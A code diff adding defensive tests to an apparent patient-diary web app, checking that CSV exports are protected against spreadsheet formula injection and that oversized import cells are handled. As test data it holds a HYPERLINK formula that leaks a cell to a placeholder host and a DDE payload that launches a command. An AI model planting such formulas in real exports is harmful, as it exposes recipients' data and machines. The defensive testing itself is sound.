@@ -93,3 +93,58 @@ def test_an_unexpected_api_error_is_json(patient, monkeypatch) -> None:
     assert response.status_code == 500
     assert response["Content-Type"].startswith("application/json")
     assert "nothing was saved" in response.json()["detail"]
+
+
+# --- CSV: formulas and the csv module's limits ---------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"name")'
+
+
+def test_safe_cell_follows_owasps_rule() -> None:
+    from program.spreadsheet import safe_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "1") == "'" + start + "1"
+    assert safe_cell("Good night") == "Good night"
+    assert safe_cell(-5) == -5  # numbers are numbers
+    assert safe_cell(None) is None
+
+
+def test_the_diary_csv_and_the_data_download_never_carry_a_formula(patient) -> None:
+    import csv
+    import io
+    import zipfile
+
+    from program.diary import save_entry
+    from program.models import Medication
+    from tests.nights import night_answers
+
+    save_entry(
+        patient=patient,
+        diary_date=patient.local_today(),
+        answers=night_answers(comments=FORMULA),
+        changed_by=patient,
+    )
+    Medication.objects.create(patient=patient, name="@SUM(1+1)*cmd|' /C calc'!A0", usual_dose_mg=5)
+    issue_token(patient, "+cmd")
+    client = client_for(patient)
+    diary = client.get(reverse("program:diary_export")).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(diary)) for cell in row]
+    assert "'" + FORMULA in cells
+    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("program:my_data_zip")).content))
+    for name in archive.namelist():
+        for row in csv.reader(io.StringIO(archive.read(name).decode())):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+
+
+def test_an_import_with_a_cell_over_the_csv_limit_is_reported_not_a_500(therapist, patient) -> None:
+    from program.diary_csv import COLUMNS
+
+    text = ",".join(COLUMNS) + "\n" + "2026-11-20," + "x" * (200 * 1024) + "\n"
+    response = client_for(therapist).post(
+        reverse("program:diary_import", args=[patient.pk]), {"csv_text": text[:900_000]}
+    )
+    assert response.status_code == 200
+    assert "could not be read" in response.content.decode()
+    assert not DiaryEntry.objects.exists()
